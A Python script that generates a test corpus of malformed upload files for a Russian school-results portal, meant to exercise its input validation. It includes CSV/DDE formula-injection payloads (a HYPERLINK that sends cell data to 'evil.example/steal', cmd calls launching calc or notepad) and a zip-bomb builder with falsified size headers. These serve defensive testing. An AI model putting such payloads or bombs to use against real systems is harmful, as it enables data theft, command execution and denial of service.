"""Writes the bad-input corpus of DESIGN §8: every file in this folder is made here, deterministically.

    .venv/bin/python tests/files/bad/make_bad_files.py          # (re)write all files, drop stale ones

Each file is one bad-input class for one kind of upload: results (ВПР ФИС ОКО export, the regional ЕГЭ form, the
portal's templates), published ОИП/ИСБШ lists, the school register, roadmaps (.xlsx and .docx). The expected
outcome of each — the Russian message, its row and column — is the table in ``tests/test_bad_input_corpus.py``;
a file written here without an entry there fails that test.

The files are built with openpyxl and python-docx from the portal's own templates where the portal has one, and
re-packed with fixed timestamps so that running the script twice gives the same bytes. Three kinds of file are
written by hand because no library here writes them:

* zip bombs: a sheet (or document) XML of 110–250 MB deflated to a few hundred KB, streamed through zlib so that
  the script never holds the inflated text, in an archive written part by part (``_zip``);
* old .xls/.doc files and password-protected .xlsx/.docx: OLE compound files (``_compound_file``) holding the
  streams Excel and Word write — «Workbook» with a BIFF8 BOF record, «WordDocument», or «EncryptionInfo» and
  «EncryptedPackage» (placeholder ciphertext: the portal must refuse such a file before it could ever decrypt it).

School identities match the fixture of the corpus test: «Тутаевский муниципальный район», МОУ СШ № 3 (edu761003,
the principal's school) and МОУ лицей № 1 (edu761001).
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from docx import Document
from openpyxl import Workbook, load_workbook

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from indicators.importers.templates import SPECS, template_bytes  # noqa: E402
from schools.register import register_template  # noqa: E402

MUNICIPALITY = "Тутаевский муниципальный район"
OWN = ("Муниципальное общеобразовательное учреждение средняя школа № 3 Тутаевского муниципального района",
       "МОУ СШ № 3", "edu761003")
OTHER = ("Муниципальное общеобразовательное учреждение лицей № 1 Тутаевского муниципального района",
         "МОУ лицей № 1", "edu761001")
STRANGER = ("МОУ Несуществующая школа № 99", "МОУ Несуществующая школа № 99", "edu769999")
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Открыть отчёт")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C notepad'!A0"
FIXED_TIME = (2024, 9, 2, 10, 0, 0)
MB = 1024 * 1024

CORPUS: dict[str, Callable[[], bytes]] = {}


def corpus(name: str):
    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        assert name not in CORPUS, name
        CORPUS[name] = build
        return build

    return register


# ---------------------------------------------------------------------------------------------------------------
# deterministic packing


_CORE_TIME = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")


def _repack(data: bytes) -> bytes:
    """The same archive with fixed timestamps (zip entries and docProps/core.xml)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "docProps/core.xml":
                body = _CORE_TIME.sub(rb"\g<1>2024-09-02T10:00:00Z\g<2>", body)
            entry = zipfile.ZipInfo(info.filename, FIXED_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o600 << 16
            target.writestr(entry, body)
    return output.getvalue()


def _save(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _repack(buffer.getvalue())


def _text(cell, value) -> None:
    """A cell whose text starts like a formula, stored as text (what pasting «=…» as text gives)."""
    cell.value = value
    cell.data_type = "s"


def _xlsx(rows: list[list], *, title: str = "Лист1", formulas: dict[tuple[int, int], str] | None = None,
          merges: tuple[str, ...] = ()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for (row, column), value in (formulas or {}).items():
        _text(sheet.cell(row=row, column=column), value)
    for cells in merges:
        sheet.merge_cells(cells)
    return _save(workbook)


def _template(key: str, rows: list[list], *, formulas: dict[tuple[int, int], str] | None = None,
              drop: tuple[str, ...] = (), merges: tuple[str, ...] = ()) -> bytes:
    """The portal's downloadable template with ``rows`` under its header (as a principal fills it)."""
    workbook = load_workbook(io.BytesIO(template_bytes(key)))
    sheet = workbook[SPECS[key].sheet]
    for row in rows:
        sheet.append(row)
    for (row, column), value in (formulas or {}).items():
        _text(sheet.cell(row=row, column=column), value)
    for header in drop:
        for cell in sheet[1]:
            if cell.value == header:
                sheet.delete_cols(cell.column)
                break
    for cells in merges:
        sheet.merge_cells(cells)
    return _save(workbook)


def _docx(paragraphs: list[str], tables: list[list[list[str]]] = ()) -> Document:
    document = Document()
    document.core_properties.author = "Управление образования"
    for text in paragraphs:
        document.add_paragraph(text)
    for rows in tables:
        width = max(len(row) for row in rows)
        table = document.add_table(rows=0, cols=width)
        for values in rows:
            for cell, value in zip(table.add_row().cells, list(values) + [""] * (width - len(values)), strict=True):
                cell.text = value
    return document


def _docx_bytes(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return _repack(buffer.getvalue())


# ---------------------------------------------------------------------------------------------------------------
# hand-written containers: zip part by part (bombs), OLE compound files (.xls, .doc, encrypted Office files)


def _deflate(chunks) -> tuple[bytes, int, int]:
    """Raw deflate of the chunks (an iterator: the inflated text is never held whole), its CRC and size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, size, parts = 0, 0, []
    for chunk in chunks:
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
        parts.append(compressor.compress(chunk))
    parts.append(compressor.flush())
    return b"".join(parts), crc, size


def _zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive of already deflated parts: (name, deflated bytes, crc, inflated size)."""
    out, central = io.BytesIO(), []
    dos_time, dos_date = 0x5000, ((FIXED_TIME[0] - 1980) << 9) | (FIXED_TIME[1] << 5) | FIXED_TIME[2]
    for name, payload, crc, size in entries:
        encoded, offset = name.encode(), out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dos_time, dos_date, crc, len(payload), size,
                              len(encoded), 0) + encoded + payload)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dos_time, dos_date, crc,
                                   len(payload), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _bomb(base: bytes, member: str, head: bytes, filler: bytes, tail: bytes, megabytes: int,
          declared: int | None = None) -> bytes:
    """``base`` with ``member`` replaced by ``head`` + ``megabytes`` MB of ``filler`` + ``tail``: well-formed XML
    that inflates to hundreds of MB from a part of a few hundred KB. With ``declared`` the archive lies about the
    inflated size of that part."""
    source = zipfile.ZipFile(io.BytesIO(base))
    block = (filler * (MB // len(filler) + 1))[:MB]
    entries = []
    for info in source.infolist():
        if info.filename == member:
            payload, crc, size = _deflate(iter([head, *([block] * megabytes), tail]))
            entries.append((member, payload, crc, size if declared is None else declared))
        else:
            entries.append((info.filename, *_deflate(iter([source.read(info)]))))
    return _zip(entries)


def _xlsx_bomb(megabytes: int, declared: int | None = None) -> bytes:
    base = _xlsx([["Муниципалитет", "Наименование ОО"], [MUNICIPALITY, OWN[1]]])
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats'
            b'.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
    return _bomb(base, "xl/worksheets/sheet1.xml", head, b"A", b"</t></is></c></row></sheetData></worksheet>",
                 megabytes, declared)


def _docx_bomb(megabytes: int, declared: int | None = None) -> bytes:
    base = _docx_bytes(_docx(["Дорожная карта"], [[["№ п/п", "Мероприятие", "Сроки исполнения"],
                                                   ["1.1", "Семинар", "ежегодно"]]]))
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxml'
            b'formats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
    return _bomb(base, "word/document.xml", head, b"A", b"</w:t></w:r></w:p></w:body></w:document>", megabytes,
                 declared)


_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def _compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file (CFB v3, 512-byte sectors): FAT in sector 0, directory in sector 1, then the streams,
    each padded to 4096 bytes so that none goes to the mini stream."""
    names = list(streams)
    datas = [streams[name].ljust(max(4096, -(-len(streams[name]) // 512) * 512), b"\0") for name in names]
    entries = 1 + len(names)
    dir_sectors = -(-entries * 128 // 512)
    fat, sector = [_FAT], 1
    fat += [sector + i + 1 for i in range(dir_sectors - 1)] + [_END]
    sector += dir_sectors
    starts = []
    for data in datas:
        count = len(data) // 512
        starts.append(sector)
        fat += [sector + i + 1 for i in range(count - 1)] + [_END]
        sector += count
    assert len(fat) <= 128, "one FAT sector is enough for the corpus"
    fat += [_FREE] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", _FREE, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, 1 if names else _FREE, _FREE, _END, 0)
    for index, name in enumerate(names):  # a chain of right siblings, ordered as the format wants
        right = index + 2 if index + 1 < len(names) else _FREE
        directory += entry(name, 2, _FREE, right, starts[index], len(streams[name]))
    directory = directory.ljust(dir_sectors * 512, b"\0")
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + b"".join(datas)


def _sorted_streams(streams: dict[str, bytes]) -> dict[str, bytes]:
    return dict(sorted(streams.items(), key=lambda item: (len(item[0]), item[0].upper())))


def _encrypted(seed: int) -> bytes:
    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
            b'hashAlgorithm="SHA512"/></encryption>')
    package = struct.pack("<Q", 8192) + random.Random(seed).randbytes(8192)
    return _compound_file(_sorted_streams({"EncryptionInfo": info, "EncryptedPackage": package}))


def _old_xls() -> bytes:
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0600)
    return _compound_file({"Workbook": bof + struct.pack("<HH", 0x000A, 0)})


def _old_doc() -> bytes:
    fib = struct.pack("<HHH", 0xA5EC, 0x00C1, 0x0409) + b"\0" * 26
    return _compound_file(_sorted_streams({"WordDocument": fib, "1Table": b"\0" * 64}))


def _truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


PDF = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
       b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


# ---------------------------------------------------------------------------------------------------------------
# results: rows of the portal templates, the ФИС ОКО export, the regional ЕГЭ form


def school_cells(school=OWN) -> list:
    return [MUNICIPALITY, school[0], school[2]]


def ege(school=OWN, subject="Русский язык", participants=20, below=1, high=3, top=0, mean=64.5) -> list:
    return [*school_cells(school), subject, participants, below, high, top, mean]


def marks(school=OWN, subject="Математика", grade=9, counts=(2, 8, 6, 4), participants=None, mean=None) -> list:
    total = sum(counts) if participants is None else participants
    return [*school_cells(school), subject, grade, total, *counts, mean]


TASKS = ["1 (1б)", "2 (2б)", "3 (2б)", "4.1 (1б)", "4.2 (1б)", "5 (3б)"]
VPR_HEADER = ["ОО", "Муниципалитет", "Название ОО", "Код участника", "Класс", "Вариант", *TASKS, "Первичный балл",
              "Отметка", "Отметка по журналу", "Пол"]


def participant(code, scores=(1, 2, 1, 1, 0, 2), mark=4, *, login=OWN[2], journal=4) -> list:
    primary = sum(s for s in scores if isinstance(s, int))
    return [login, MUNICIPALITY, OWN[1], code, "5А", 1, *scores, primary, mark, journal, "ж"]


def vpr_rows(people, *, year=2024, date="16.04.2024", header=VPR_HEADER) -> list[list]:
    """The ФИС ОКО «Индивидуальные результаты» export: title, meta rows, organisation, task levels, header, people."""
    return [
        [f"ВПР {year} Математика 5 класс"],
        ["Предмет", "Математика"],
        ["Максимальный первичный балл", 10],
        ["Дата", date],
        [f"{OWN[1]} ({OWN[2]}) | Кол-во участников: {len(people)}"],
        [None] * 6 + ["Б", "Б", "Б", "П", "П", "В"],
        list(header),
        *people,
    ]


def vpr_export(people, *, year=2024, date="16.04.2024", formulas=None) -> bytes:
    return _xlsx(vpr_rows(people, year=year, date=date), title="Индивидуальные результаты", formulas=formulas)


def people(count=6) -> list[list]:
    return [participant(f"{10001 + n}", mark=3 + n % 3) for n in range(count)]


EGE_FIXED = ["Муниципальное образование", "Образовательная организация (школа)", "Профиль (при наличии)",
             "Всего выпускников в {year} году по программам среднего общего образования, принявших участие в ЕГЭ, "
             "чел."]
EGE_SUB = ["приняло участие", "не преодолен min порог", "высокобалльники (80-99 баллов)", "получили 100 баллов",
           "средний балл"]


EGE_SUBJECTS = ("Русский язык", "Математика профильная")


def ege_regional_rows(rows: list[list], *, year=2023, fixed=EGE_FIXED, subjects=EGE_SUBJECTS,
                      sub=EGE_SUB) -> list[list]:
    """The regional per-school ЕГЭ form as the reader sees it: title in row 2, the two-row header in rows 4–5
    (a merged cell is read as its first cell), school rows from row 6."""
    head = [header.replace("{year}", str(year)) if isinstance(header, str) else header for header in fixed]
    second = [""] * len(fixed)
    for subject in subjects:
        head += [subject] + [""] * (len(sub) - 1)
        second += list(sub)
    return [[], [f"Информация о результатах ЕГЭ выпускников школ в {year} году"], [], head, second, *rows]


def ege_regional(rows: list[list], *, year=2023, sheet=None) -> bytes:
    """The regional per-school ЕГЭ form: title, a two-row header with merged subject names, school rows."""
    workbook = Workbook()
    ws = workbook.active
    ws.title = sheet or str(year)
    for r, row in enumerate(ege_regional_rows(rows, year=year), start=1):
        for c, value in enumerate(row, start=1):
            if value not in (None, ""):
                ws.cell(r, c, value)
    for index in range(1, len(EGE_FIXED) + 1):
        ws.merge_cells(start_row=4, start_column=index, end_row=5, end_column=index)
    for number in range(len(EGE_SUBJECTS)):
        first = len(EGE_FIXED) + 1 + number * len(EGE_SUB)
        ws.merge_cells(start_row=4, start_column=first, end_row=4, end_column=first + len(EGE_SUB) - 1)
    return _save(workbook)


def ege_school_row(school=OWN, graduates=25) -> list:
    return [MUNICIPALITY, school[0], "X", graduates, 24, 1, 3, 0, 66.1, 10, 0, 1, 0, 58.4]


@corpus("results_pdf_renamed.xlsx")
def _():
    return PDF


@corpus("results_csv_renamed.xlsx")
def _():
    return "Муниципалитет;Наименование ОО;Логин ФИС ОКО;Предмет\n" \
           f"{MUNICIPALITY};{OWN[0]};{OWN[2]};Русский язык\n".encode("cp1251")


@corpus("results_empty.xlsx")
def _():
    return b""


@corpus("results_truncated.xlsx")
def _():
    return _truncated(_template("template_ege", [ege()]))


@corpus("results_old_format.xls")
def _():
    return _old_xls()


@corpus("results_xls_renamed.xlsx")
def _():
    return _old_xls()


@corpus("results_encrypted.xlsx")
def _():
    return _encrypted(seed=1)


@corpus("results_docx_renamed.xlsx")
def _():
    return _docx_bytes(_docx(["Результаты ЕГЭ"], [[["Школа", "Участников"], [OWN[1], "20"]]]))


@corpus("results_empty_workbook.xlsx")
def _():
    return _save(Workbook())


@corpus("results_unknown_layout.xlsx")
def _():
    return _xlsx([["Отчёт о посещаемости"], ["Класс", "Пропущено уроков", "По болезни"], ["5А", 120, 80]])


@corpus("results_ege_missing_column.xlsx")
def _():
    return _template("template_ege", [ege()], drop=("Участников",))


@corpus("results_oge_merged_header.xlsx")
def _():
    return _template("template_oge", [marks()], merges=("G1:J1",))


@corpus("results_oge_duplicate_rows.xlsx")
def _():
    return _template("template_oge", [marks(), marks(counts=(1, 9, 6, 4))])


@corpus("results_ege_text_in_number.xlsx")
def _():
    return _template("template_ege", [ege(participants="двадцать")])


@corpus("results_ege_negative_count.xlsx")
def _():
    return _template("template_ege", [ege(below=-3)])


@corpus("results_ege_mean_above_max.xlsx")
def _():
    return _template("template_ege", [ege(mean=140)])


@corpus("results_vpr_grade_out_of_range.xlsx")
def _():
    return _template("template_vpr", [marks(grade=14)])


@corpus("results_ege_formula_injection.xlsx")
def _():
    return _template("template_ege", [ege()], formulas={(2, 2): HYPERLINK})


@corpus("results_passport_formula_injection.xlsx")
def _():
    return _template("passport", [[*school_cells(), 420, 35]], formulas={(2, 1): PLUS_CMD})


@corpus("results_ege_unknown_school.xlsx")
def _():
    return _template("template_ege", [ege(STRANGER)])


@corpus("results_oge_other_school.xlsx")
def _():
    return _template("template_oge", [marks(), marks(OTHER)])


@corpus("results_vpr_score_above_max.xlsx")
def _():
    rows = people()
    rows[2] = participant("10003", scores=(1, 5, 1, 1, 0, 2))
    return vpr_export(rows)


@corpus("results_vpr_mark_outside_2_5.xlsx")
def _():
    rows = people()
    rows[3] = participant("10004", mark=7)
    return vpr_export(rows)


@corpus("results_vpr_duplicate_participant.xlsx")
def _():
    rows = people()
    rows[4] = participant("10001")
    return vpr_export(rows)


@corpus("results_vpr_formula_injection.xlsx")
def _():
    return vpr_export(people(), formulas={(9, 4): DDE})


@corpus("results_vpr_protocol_journal_mark.xlsx")
def _():
    """The school «Протокол» form (no subject, grade or school in the file: the upload form gives them)."""
    header = ["Код", "Вариант (часть 1)", "1 (1б)", "2 (1б)", "3 (2б)", "Класс", "Пол",
              "Отметка за предыдущий триместр/ четверть/полугодие"]
    rows = [[40001, 1, 1, 1, 2, "5А", "м", 5], [40002, 2, 1, 0, 2, "5А", "ж", 4], [40003, 1, 1, 1, 1, "5А", "м", 1]]
    return _xlsx([header, *rows], title="Протокол")


@corpus("results_vpr_wrong_year.xlsx")
def _():
    return vpr_export(people(), year=2022, date="19.04.2022")


@corpus("results_vpr_other_school_login.xlsx")
def _():
    rows = people()
    rows[1] = participant("10002", login=OTHER[2])
    return vpr_export(rows)


@corpus("results_ege_regional_wrong_year.xlsx")
def _():
    return ege_regional([ege_school_row()], year=2021)


@corpus("results_ege_regional_text_in_count.xlsx")
def _():
    row = ege_school_row()
    row[5] = "н/д"
    return ege_regional([row])


@corpus("results_huge.xlsx")
def _():
    rng = random.Random(7)
    rows = [ege(subject=f"Предмет {rng.randrange(10**9)}", participants=rng.randrange(1, 90), below=0, high=0,
                mean=round(rng.uniform(40, 90), 2)) for _ in range(1500)]
    return _template("template_ege", rows)


@corpus("results_zip_bomb.xlsx")
def _():
    return _xlsx_bomb(210)


@corpus("results_lying_sizes_bomb.xlsx")
def _():
    return _xlsx_bomb(40, declared=2048)


@corpus("results_ege_nan_and_huge_numbers.xlsx")
def _():
    return _template("template_ege", [ege(participants="1e999999", mean="NaN")])


# ---------------------------------------------------------------------------------------------------------------
# published ОИП / ИСБШ lists


TABLE1 = ["№", "Наименование ОО", "ЕГЭ", "ОГЭ", "ВПР", "СК", "Олимп", "Достоверность", "ОИП"]
TABLE2 = ["№", "Наименование ОО", "Депривированные сельские школы", "Депривированные городские школы",
          "Сельские малокомплектные", "Школы с ограниченной транспортной доступностью",
          "Школы с высоким уровнем девиантности", "Школы с низким уровнем кадрового потенциала", "ИСБШ"]
TABLE3 = ["№", "Наименование ОО", "ОИП", "ИСБШ"]
TITLE3 = "Результаты идентификации школ Тутаевского муниципального района по ОИП и ИСБШ"


def index_list(header, rows, *, title=TITLE3, formulas=None, merges=()) -> bytes:
    return _xlsx([[title], [], header, *rows], title="Таблица 3", formulas=formulas, merges=merges)


@corpus("index_pdf_renamed.xlsx")
def _():
    return PDF


@corpus("index_truncated.xlsx")
def _():
    return _truncated(index_list(TABLE3, [[1, OWN[1], 52.75, 54.91]]))


@corpus("index_encrypted.xlsx")
def _():
    return _encrypted(seed=2)


@corpus("index_list.csv")
def _():
    return f"№;Наименование ОО;ОИП;ИСБШ\n1;{OWN[1]};52,75;54,91\n".encode()


@corpus("index_unknown_layout.xlsx")
def _():
    return index_list(["№", "Наименование ОО", "Средний балл ЕГЭ"], [[1, OWN[1], 64.2]])


@corpus("index_table2_missing_columns.xlsx")
def _():
    header = [h for h in TABLE2 if h not in ("Школы с высоким уровнем девиантности",
                                             "Школы с низким уровнем кадрового потенциала")]
    return index_list(header, [[1, OWN[0], "да", "", "да", "да", 27.52]], title="Таблица 2")


@corpus("index_duplicate_rows.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], 52.75, 54.91], [2, OTHER[1], 56.78, 61.63], [3, OWN[0], 50.1, 53.0]])


@corpus("index_text_in_number.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], "н/д", 54.91], [2, OTHER[1], 56.78, 61.63]])


@corpus("index_negative_value.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], 52.75, 54.91], [2, OTHER[1], -6.78, 61.63]])


@corpus("index_table1_bad_flag_and_number.xlsx")
def _():
    return index_list(TABLE1, [[1, OWN[1], 25, 149, 147, 143, 83, "121,83 (уточн.)", 59.86]], title="Таблица 1")


@corpus("index_table2_bad_flag.xlsx")
def _():
    return index_list(TABLE2, [[1, OWN[0], "да", "", "возможно", "да", "", "да", 27.52]], title="Таблица 2")


@corpus("index_huge_number.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], 52.75, 54.91], [2, OTHER[1], "1e999999999", 61.63]])


@corpus("index_formula_injection.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], 52.75, 54.91], [2, "x", 56.78, 61.63]], formulas={(5, 2): HYPERLINK})


@corpus("index_schools_not_in_register.xlsx")
def _():
    return index_list(TABLE3, [[1, STRANGER[1], 40.1, 50.2], [2, "МОУ Вымышленная школа", 41.0, 49.0]])


@corpus("index_merged_cells.xlsx")
def _():
    return index_list(TABLE3, [[1, OWN[1], 52.75, 54.91], [2, OTHER[1], 56.78, 61.63]], merges=("B3:D4",))


@corpus("index_zip_bomb.xlsx")
def _():
    return _xlsx_bomb(110)


# ---------------------------------------------------------------------------------------------------------------
# the school register


def register_row(name=OWN, municipality=MUNICIPALITY, kind="СОШ", locality="Городская", small="нет",
                 senior="да", inn="", address="", active="да") -> list:
    return [municipality, name[0], name[1], name[2], kind, locality, small, senior, inn, address, active]


def register(rows, *, formulas=None, drop=()) -> bytes:
    workbook = load_workbook(io.BytesIO(register_template()))
    sheet = workbook.worksheets[0]
    sheet.delete_rows(2, sheet.max_row)  # the example row of the template
    for row in rows:
        sheet.append(row)
    for (row, column), value in (formulas or {}).items():
        _text(sheet.cell(row=row, column=column), value)
    for header in drop:
        for cell in sheet[1]:
            if cell.value == header:
                sheet.delete_cols(cell.column)
                break
    return _save(workbook)


@corpus("register_text_renamed.xlsx")
def _():
    return "Реестр школ Тутаевского района\nМОУ СШ № 3\tedu761003\n".encode()


@corpus("register_empty.xlsx")
def _():
    return b""


@corpus("register_truncated.xlsx")
def _():
    return _truncated(register([register_row()]))


@corpus("register_xls_renamed.xlsx")
def _():
    return _old_xls()


@corpus("register_csv.csv")
def _():
    return f"Муниципалитет;Наименование ОО\n{MUNICIPALITY};{OWN[0]}\n".encode()


@corpus("register_unknown_layout.xlsx")
def _():
    return _xlsx([["Список педагогов"], ["ФИО", "Должность", "Стаж"], ["Иванова А. П.", "учитель", 12]])


@corpus("register_missing_column.xlsx")
def _():
    return register([register_row()], drop=("Тип ОО",))


@corpus("register_duplicate_rows.xlsx")
def _():
    return register([register_row(), register_row(OTHER), register_row()])


@corpus("register_wrong_types.xlsx")
def _():
    return register([register_row(kind="колледж", small="возможно")])


@corpus("register_values_too_long.xlsx")
def _():
    return register([register_row(inn="76110012345678", name=(OWN[0], OWN[1], "edu7610030001"))])


@corpus("register_formula_injection.xlsx")
def _():
    return register([register_row(), register_row(OTHER)], formulas={(3, 3): DDE})


@corpus("register_unknown_municipality.xlsx")
def _():
    return register([register_row(municipality="Несуществующий муниципальный район")])


@corpus("register_zip_bomb.xlsx")
def _():
    return _xlsx_bomb(120)


# ---------------------------------------------------------------------------------------------------------------
# roadmaps


HEADER = ["№ п/п", "Мероприятие", "Сроки исполнения", "Ответственные", "Ожидаемый результат"]


def activities(count=3, section="1. Общесистемные мероприятия") -> list[list[str]]:
    return [[section], *[[f"1.{n}", f"Семинар для заместителей директоров № {n}", "ежеквартально",
                          "Управление образования", "Протокол"] for n in range(1, count + 1)]]


def roadmap_docx(rows, *, merge_sections=True) -> bytes:
    document = _docx(["Приложение к приказу управления образования", "Дорожная карта"])
    width = len(HEADER)
    table = document.add_table(rows=0, cols=width)
    for values in rows:
        cells = table.add_row().cells
        if merge_sections and len(values) == 1:
            merged = cells[0].merge(cells[-1])
            merged.text = values[0]
            continue
        for cell, value in zip(cells, list(values) + [""] * (width - len(values)), strict=True):
            cell.text = value
    return _docx_bytes(document)


def roadmap_xlsx(rows, *, formulas=None, merges=()) -> bytes:
    return _xlsx([["Дорожная карта по повышению качества образования"], [], *rows], title="Дорожная карта",
                  formulas=formulas, merges=merges)


@corpus("roadmap_pdf_renamed.docx")
def _():
    return PDF


@corpus("roadmap_empty.docx")
def _():
    return b""


@corpus("roadmap_truncated.docx")
def _():
    return _truncated(roadmap_docx([HEADER, *activities()]))


@corpus("roadmap_old_format.doc")
def _():
    return _old_doc()


@corpus("roadmap_doc_renamed.docx")
def _():
    return _old_doc()


@corpus("roadmap_encrypted.docx")
def _():
    return _encrypted(seed=3)


@corpus("roadmap_csv_renamed.xlsx")
def _():
    return "№ п/п;Мероприятие;Сроки исполнения\n1.1;Семинар;ежегодно\n".encode()


@corpus("roadmap_no_table.docx")
def _():
    return _docx_bytes(_docx(["Дорожная карта по повышению качества образования",
                              "1.1. Семинар для заместителей директоров — ежеквартально, управление образования.",
                              "1.2. Методический десант в школы с низкими результатами — по отдельному графику."]))


@corpus("roadmap_missing_columns.docx")
def _():
    return _docx_bytes(_docx(["Дорожная карта"], [[["№ п/п", "Сроки исполнения", "Ответственные"],
                                                   ["1.1", "ежеквартально", "Управление образования"]]]))


@corpus("roadmap_unrecognised_numbers.docx")
def _():
    rows = [HEADER, *activities()]
    rows[3] = ["первый-бис", "Семинар без номера", "ежегодно", "УО", ""]
    return roadmap_docx(rows)


@corpus("roadmap_duplicate_rows.docx")
def _():
    rows = [HEADER, *activities()]
    rows.append(list(rows[2]))
    return roadmap_docx(rows)


@corpus("roadmap_merged_cells.docx")
def _():
    document = _docx(["Дорожная карта"])
    table = document.add_table(rows=6, cols=len(HEADER))
    for cell, text in zip(table.rows[0].cells, HEADER, strict=True):
        cell.text = text
    table.cell(0, 2).merge(table.cell(0, 3))  # «Сроки» and «Ответственные» in one header cell
    table.cell(1, 0).merge(table.cell(2, 1)).text = "1. Общие мероприятия"  # a 2×2 block over number and title
    table.cell(3, 1).merge(table.cell(5, 1))  # one title cell down three rows
    table.cell(3, 1).text = "Семинар"
    for row in (3, 4, 5):
        table.cell(row, 0).text = f"1.{row - 2}"
    table.cell(4, 2).merge(table.cell(5, 4)).text = "ежегодно"
    return _docx_bytes(document)


@corpus("roadmap_formula_injection.xlsx")
def _():
    rows = [HEADER, *activities()]
    return roadmap_xlsx(rows, formulas={(5, 2): HYPERLINK})


@corpus("roadmap_too_many_rows.xlsx")
def _():
    rows = [HEADER, ["1. Мероприятия"]] + [[f"1.{n}", f"Мероприятие {n}", "ежегодно", "УО", ""]
                                           for n in range(1, 2002)]
    return roadmap_xlsx(rows)


@corpus("roadmap_merged_cells.xlsx")
def _():
    rows = [HEADER, *activities(4)]
    return roadmap_xlsx(rows, merges=("A3:B4", "B5:E6", "C7:C9"))


@corpus("roadmap_zip_bomb.docx")
def _():
    return _docx_bomb(150)


@corpus("roadmap_lying_sizes_bomb.docx")
def _():
    return _docx_bomb(40, declared=2048)


@corpus("roadmap_zip_bomb.xlsx")
def _():
    return _xlsx_bomb(110)


# ---------------------------------------------------------------------------------------------------------------


def main() -> None:
    keep = {Path(__file__).name, "README.md"}
    for path in HERE.iterdir():
        if path.is_file() and path.name not in keep and path.name not in CORPUS:
            path.unlink()
    for name, build in CORPUS.items():
        (HERE / name).write_bytes(build())
    total = sum((HERE / name).stat().st_size for name in CORPUS)
    print(f"{len(CORPUS)} файлов, {total // 1024} КБ")


if __name__ == "__main__":
    main()
